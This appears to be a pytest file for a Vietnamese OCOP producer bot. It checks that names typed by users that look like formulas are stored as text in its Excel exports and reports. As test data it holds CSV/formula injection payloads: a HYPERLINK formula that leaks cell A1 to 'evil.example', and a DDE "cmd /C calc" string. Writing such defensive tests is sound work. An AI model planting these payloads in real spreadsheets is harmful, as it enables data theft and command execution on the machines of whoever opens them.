"""A name someone typed that looks like a formula stays text in every spreadsheet the bot writes: an officer who
opens the export, the registrants or the report never runs what a producer (or anybody) typed."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot.cli.commands import main
from bot.cli.report import write_report
from bot.settings import Settings
from storage.models import ChatAccount
from tests.support.checks import present
from tests.support.events import NOW, add_event
from tests.support.fakes import Chat
from tests.support.lists import HEADER
from tests.support.seed import add_application, add_producer, invite

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm để xem")'
PRODUCT = "+SUM(1;2) Cà phê"
COMMUNE = "@Xã Đạ Sar"
CELL_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(sheet: Worksheet) -> list[tuple[str, str]]:
    """(value, how it is stored) of every cell that starts like a formula."""
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str) and cell.value.startswith(CELL_STARTS)]


def test_products_export_keeps_a_formula_named_producer_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                capsys) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("OCOP_DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'ocop.db'}")
    with (tmp_path / "list.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([HEADER, [LINK, "Hợp tác xã", "0300588569", "0912 345 678", "Lâm Đồng", COMMUNE, "",
                                           PRODUCT, "Thực phẩm", "Cà phê, ca cao", "4", "78", "-1032/QĐ-UBND",
                                           "21/07/2024", ""]])
    assert main(["import", "products", str(tmp_path / "list.csv")]) == 0
    assert main(["export", "products", str(tmp_path / "out.xlsx")]) == 0
    capsys.readouterr()
    sheet = load_workbook(tmp_path / "out.xlsx").active
    row = [cell.value for cell in sheet[2]]
    assert row[0] == LINK and row[5] == COMMUNE and row[7] == PRODUCT  # shown exactly as typed
    assert formula_like(sheet) == [(LINK, "s"), ("+84912345678", "s"), (COMMUNE, "s"), (PRODUCT, "s"),
                                   ("-1032/QĐ-UBND", "s")]


async def test_registrants_sheet_keeps_a_formula_named_producer_as_text(make_runner: Callable, sqlite_url: str,
                                                                        clock) -> None:
    clock.now = NOW
    runner = await make_runner(sqlite_url)
    async with runner.sessions() as session, session.begin():
        producer = await add_producer(session, name=LINK, commune=COMMUNE, phone="+84912000111")
        await add_application(session, producer, name=PRODUCT)
        session.add(ChatAccount(channel="web", chat_id="tricky", producer_id=producer.id))
    officer = Chat(runner, user="officer")
    await officer.say(f"/canbo {await invite(runner.sessions)}")
    await add_event(officer, "/themtaphuan", "=1+1 Tập huấn", start="12/12/2026 08:00", end="12/12/2026 16:00",
                    deadline=None)
    tricky = Chat(runner, user="tricky")
    await tricky.say("/taphuan")
    event_id = int(next(o for o in tricky.option_ids if o.startswith("event:open:")).rsplit(":", 1)[1])
    await tricky.tap(f"event:open:{event_id}")
    await tricky.tap(f"event:join:{event_id}")
    await officer.press_stale(f"event:open:{event_id}")
    await officer.tap(f"event:people:{event_id}")
    [attachment] = officer.replies[0].attachments
    sheet = load_workbook(io.BytesIO(present(attachment.content))).active
    assert [cell.value for cell in sheet[2]] == [LINK, "+84912000111", COMMUNE]
    assert formula_like(sheet) == [(LINK, "s"), ("+84912000111", "s"), (COMMUNE, "s")]


async def test_report_keeps_a_formula_named_event_as_text(make_runner: Callable, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch, clock) -> None:
    clock.now = NOW
    url = f"sqlite+aiosqlite:///{tmp_path / 'ocop.db'}"
    runner = await make_runner(url)
    officer = Chat(runner, user="officer")
    await officer.say(f"/canbo {await invite(runner.sessions)}")
    await add_event(officer, "/themhoicho", "=cmd|' /C calc'!A0 Hội chợ", start="20/12/2026 08:00",
                    end="22/12/2026 21:00", deadline=None)
    monkeypatch.setenv("OCOP_DATABASE_URL", url)
    code, _, _ = await write_report(Settings(), "lam dong", tmp_path / "out")  # what `ocop-bot report` runs
    assert code == 0
    workbook = load_workbook(tmp_path / "out" / "ocop-report-lam-dong.xlsx")
    assert formula_like(workbook["Sự kiện"]) == [("=cmd|' /C calc'!A0 Hội chợ", "s")]
    assert all(cell.data_type != "f" for sheet in workbook for row in sheet.iter_rows() for cell in row)
